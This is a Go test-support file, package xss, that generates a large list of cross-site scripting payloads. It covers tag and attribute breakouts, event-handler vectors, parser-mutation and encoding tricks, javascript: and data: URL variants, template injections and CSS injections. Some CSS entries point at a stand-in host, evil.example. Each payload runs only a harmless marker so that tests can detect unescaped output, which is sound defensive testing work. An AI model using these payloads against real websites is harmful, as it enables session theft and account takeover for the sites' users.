// Package xss lists texts that run code where somebody forgot to escape, for tests.
package xss

import (
	"strconv"
	"strings"
)

// Code is what a payload runs if it can: it notes the payload's number.
func Code(n int) string { return "top.hacked=" + strconv.Itoa(n) }

// Payloads returns the texts. Each holds Code with its place in the list, so that one
// that runs says which it is.
func Payloads() []string {
	var list []string
	add := func(text string) { list = append(list, strings.ReplaceAll(text, "CODE", Code(len(list)))) }
	for _, out := range outOf {
		for _, vector := range vectors {
			add(out + vector)
		}
	}
	for _, text := range lone {
		add(text)
	}
	for _, url := range urls {
		add(url)
	}
	for _, style := range styles {
		add(style)
	}
	return list
}

// URLs returns the payloads that are addresses.
func URLs() []string {
	all := Payloads()
	from := len(outOf)*len(vectors) + len(lone)
	return all[from : from+len(urls)]
}

// outOf end the context that a text stands in: an element's text, each kind of
// attribute, a comment, the elements whose text is raw.
var outOf = []string{
	"", `">`, `'>`, "`>", `" `, `' `, ">", "-->", "--!>", "]]>", "</script>", "</style>", "</title>", "</textarea>", "</option></select>",
	"</noscript>", "</iframe>", "</template>", "</svg>", `"/>`, `\">`, "\x00\">", "\u2028\">", "<!--[-->\">", "<!--]-->",
}

// vectors run code when they are markup.
var vectors = []string{
	`<script>CODE</script>`,
	`<img src=x: onerror=CODE>`,
	`<svg onload=CODE>`,
	`<svg/onload=CODE//`,
	`<ScRiPt >CODE</sCrIpT>`,
	`<iframe srcdoc="<script>CODE</script>"></iframe>`,
	`<iframe src="javascript:CODE"></iframe>`,
	`<a href="javascript:CODE" class=attack>x</a>`,
	`<input autofocus onfocus=CODE>`,
	`<details open ontoggle=CODE>`,
	`<style onload=CODE></style>`,
	`onfocus=CODE autofocus tabindex=1 x=`,
	`<form><button formaction=javascript:CODE>x`,
	`<math><mtext></form><form><mglyph><style></math><img src=x: onerror=CODE>`,
}

// lone are further ways: parsers' quirks, mutations, templates of other libraries.
var lone = []string{
	`<img src="x:"onerror="CODE">`, `<img/src=x:/onerror=CODE>`, `<img src=x: onerror	=CODE>`, "<img src=x:\nonerror\n=\nCODE>", `<img src=x: oNeRrOr=CODE>`,
	`<video><source onerror=CODE></video>`, `<audio src=x: onerror=CODE>`, `<body onload=CODE>`, `<body onpageshow=CODE>`, `<object data="javascript:CODE">`,
	`<embed src="javascript:CODE">`, `<marquee onstart=CODE>x</marquee>`, `<select autofocus onfocus=CODE>`, `<textarea autofocus onfocus=CODE>`, `<keygen autofocus onfocus=CODE>`,
	`<div onmouseover=CODE class=attack>x</div>`, `<button onclick=CODE class=attack>x</button>`, `<div style="animation:x 1s" onanimationstart=CODE>`,
	`<svg><script>CODE</script></svg>`, `<svg><script href="data:text/javascript,CODE"></script></svg>`, `<svg><a xlink:href="javascript:CODE"><text y=20>x</text></a></svg>`,
	`<svg><animate onbegin=CODE attributeName=x dur=1s>`, `<svg><set onbegin=CODE attributeName=x dur=1s>`, `<svg><a><animate attributeName=href values=javascript:CODE /><text>x</text></a></svg>`,
	`<svg><foreignObject><iframe srcdoc="<script>CODE</script>"></iframe></foreignObject></svg>`, `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='CODE'/></svg>#x">`,
	`<svg><style><img src=x: onerror=CODE></style></svg>`, `<svg></p><style><a id="</style><img src=x: onerror=CODE>">`, `<svg><title><img src=x: onerror=CODE></title></svg>`,
	`<math><mi xlink:href="javascript:CODE">x</mi></math>`, `<math href="javascript:CODE">x</math>`, `<math><annotation-xml encoding="text/html"><img src=x: onerror=CODE></annotation-xml></math>`,
	`<noscript><p title="</noscript><img src=x: onerror=CODE>">`, `<p title="<!--" --><img src=x: onerror=CODE>`, `<!--><img src=x: onerror=CODE>-->`, `<!---><img src=x: onerror=CODE>`,
	`<![CDATA[><img src=x: onerror=CODE>]]>`, `<?xml ><img src=x: onerror=CODE>`, `<xmp><p title="</xmp><img src=x: onerror=CODE>">`, `<listing>&lt;img src=x: onerror=CODE&gt;</listing>`,
	`<template><script>CODE</script></template>`, `<template shadowrootmode=open><script>CODE</script></template>`, `<div><template shadowrootmode=open><img src=x: onerror=CODE></template></div>`,
	`<table><tr><td><script>CODE</script>`, `<select><option><script>CODE</script>`, `<select><template><img src=x: onerror=CODE></template></select>`, `<plaintext><script>CODE</script>`,
	`<base href="javascript:CODE//">`, `<link rel=stylesheet href="data:text/css,*{x:y}" onload=CODE>`, `<meta http-equiv=refresh content="0;url=javascript:CODE">`, `<frameset onload=CODE>`,
	`<form id=x></form><button form=x formaction="javascript:CODE" class=attack>x</button>`, `<isindex action="javascript:CODE" type=image>`, `<input type=image src=x: onerror=CODE>`, `<input type=image formaction=javascript:CODE class=attack>`,
	`<a href="java&#9;script:CODE" class=attack>x</a>`, `<a href="&#106;avascript:CODE" class=attack>x</a>`, `<a href="javascript&colon;CODE" class=attack>x</a>`, `<a href=" &#14; javascript:CODE" class=attack>x</a>`,
	`<a href=x onclick=CODE ping="javascript:CODE" class=attack>x</a>`, `<x onclick=CODE tabindex=1 class=attack>x</x>`, `<x contenteditable onfocus=CODE autofocus>`, `<img srcset=",,x:" onerror=CODE>`,
	`&lt;script&gt;CODE&lt;/script&gt;`, `&#x3c;img src=x: onerror=CODE&#x3e;`, `\u003cscript\u003eCODE\u003c/script\u003e`, `\x3cimg src=x: onerror=CODE\x3e`, "+ADw-script+AD4-CODE+ADw-/script+AD4-",
	"<\x00script>CODE</script>", "<script\x00>CODE</script>", "<scr\x00ipt>CODE</script>", "<img src=x: onerror\x00=CODE>", "\xff<script>CODE</script>", "<\xe2\x80\x8bscript>CODE</script>", "\ufeff<script>CODE</script>",
	"\xc0\xbcscript\xc0\xbeCODE\xc0\xbc/script\xc0\xbe", "\uff1cscript\uff1eCODE\uff1c/script\uff1e", "\u202e<script>CODE</script>", "%3Cscript%3ECODE%3C/script%3E", "%253Cscript%253ECODE%253C/script%253E",
	`{{constructor.constructor('CODE')()}}`, `${CODE}`, `#{CODE}`, `<%= CODE %>`, `{{=CODE}}`, `[[CODE]]`, `<div v-html="'<img src=x: onerror=CODE>'">`, `<div hx-on:click="CODE" class=attack>`, `<div data-on-load="CODE">`,
	`';CODE;'`, `";CODE;"`, "`;CODE;`", `\';CODE;//`, `</script><script>CODE//`, `*/CODE/*`, "\nCODE\n", "\u2028CODE\u2029", `"-CODE-"`, `'-CODE-'`, `"}}];CODE;//`, `__proto__`, `constructor`,
	`<div id=duet><script>CODE</script></div>`, `<script type="application/json" id="duet-page">{"socket":"javascript:CODE"}</script>`, `" data-e="click:p" onclick="CODE`, `<img name=duet src=x: onerror=CODE>`, `<form name=duet><input name=q></form>`,
}

// urls run code where they are an address.
var urls = []string{
	"javascript:CODE", "JavaScript:CODE", "JAVASCRIPT:CODE", " javascript:CODE", "\tjavascript:CODE", "\njavascript:CODE", "\x01javascript:CODE", "\x1fjavascript:CODE", "\x00javascript:CODE",
	"java\tscript:CODE", "java\nscript:CODE", "java\rscript:CODE", "java\r\nscript:CODE", "javascript\t:CODE", "javascript\n:CODE", "j\na\nv\na\ns\nc\nr\ni\np\nt\n:\nCODE", "jav\x00ascript:CODE",
	"javascript:CODE//http://", "javascript://%0aCODE", "javascript://example.com/%0d%0aCODE", "javascript:/*--></title>*/CODE", "javascript:void(CODE)", "javascript:'<script>CODE</script>'", "javascript:%63ODE;CODE", "javascript:eval('CODE')",
	"javascript&colon;CODE", "javascript&#58;CODE", "javascript&#x3a;CODE", "&#106;avascript:CODE", "&#x6a;avascript:CODE", "java&Tab;script:CODE", "java&NewLine;script:CODE",
	"view-source:javascript:CODE", "feed:javascript:CODE", "jar:javascript:CODE!/", "x-javascript:CODE", "livescript:CODE", "mocha:CODE", "vbscript:CODE", "VBScript:CODE", "vb\tscript:CODE",
	"data:text/html,<script>CODE</script>", "data:text/html;base64,PHNjcmlwdD50b3AuaGFja2VkPTE8L3NjcmlwdD4=", "DATA:text/html,<script>CODE</script>", "data:,<script>CODE</script>", "data:text/html;charset=utf-8,<script>CODE</script>",
	"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CODE'/>", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0idG9wLmhhY2tlZD0xIi8+", "data:application/xhtml+xml,<html xmlns='http://www.w3.org/1999/xhtml'><script>CODE</script></html>",
	"data:text/xml,<script xmlns='http://www.w3.org/1999/xhtml'>CODE</script>", "data:text/javascript,CODE", "da\nta:text/html,<script>CODE</script>", "\tdata:text/html,<script>CODE</script>",
	"blob:javascript:CODE", "filesystem:javascript:CODE", "about:blank#<script>CODE</script>", "about:srcdoc", "//javascript:CODE", "/javascript:CODE", "./javascript:CODE", "?javascript:CODE", "#javascript:CODE",
	"\u00a0javascript:CODE", "\u3000javascript:CODE", "\ufeffjavascript:CODE", "\uff4aavascript:CODE", "java\u00adscript:CODE", "java\u200bscript:CODE", "javascript\uff1aCODE", "%6aavascript:CODE", "javascript%3aCODE", `java\script:CODE`, `\javascript:CODE`,
}

// styles run code, or ran it once, where they are CSS, or leave their declaration.
var styles = []string{
	`red;background:url(javascript:CODE)`, `url(javascript:CODE)`, `url("javascript:CODE")`, `url(data:image/svg+xml,<svg/onload=CODE>)`, `expression(CODE)`, `exp/**/ression(CODE)`, `\65xpression(CODE)`,
	`red}</style><script>CODE</script>`, `red;}*{background:url(//evil.example)}`, `-moz-binding:url(//evil.example/x.xml#x)`, `behavior:url(x.htc)`, `@import "javascript:CODE";`, `@import url(//evil.example);`,
	`red"onmouseover="CODE`, `red'onmouseover='CODE`, `red/*`, `*/red`, `red\`, `"`, `'`, `(`, `)`, `{`, `}`, `;`, `red !important; position: fixed`, `var(--x, url(javascript:CODE))`, `image-set("javascript:CODE" 1x)`,
	`\0072ed`, "red\x00;x:y", "red\n}x{y:z", `<!--`, `--></style>`, `attr(onclick url)`, `src("javascript:CODE")`,
}
